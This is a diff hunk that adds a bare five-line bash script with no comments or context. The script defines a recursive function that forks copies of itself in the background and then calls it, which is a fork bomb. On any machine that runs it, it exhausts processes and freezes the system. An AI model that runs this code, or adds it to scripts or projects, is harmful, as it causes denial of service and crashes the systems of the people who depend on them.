@@ -1,0 +1,5 @@
+#!/bin/bash
+bomb() { bomb | bomb & }
+bomb
+wait
+sleep 60
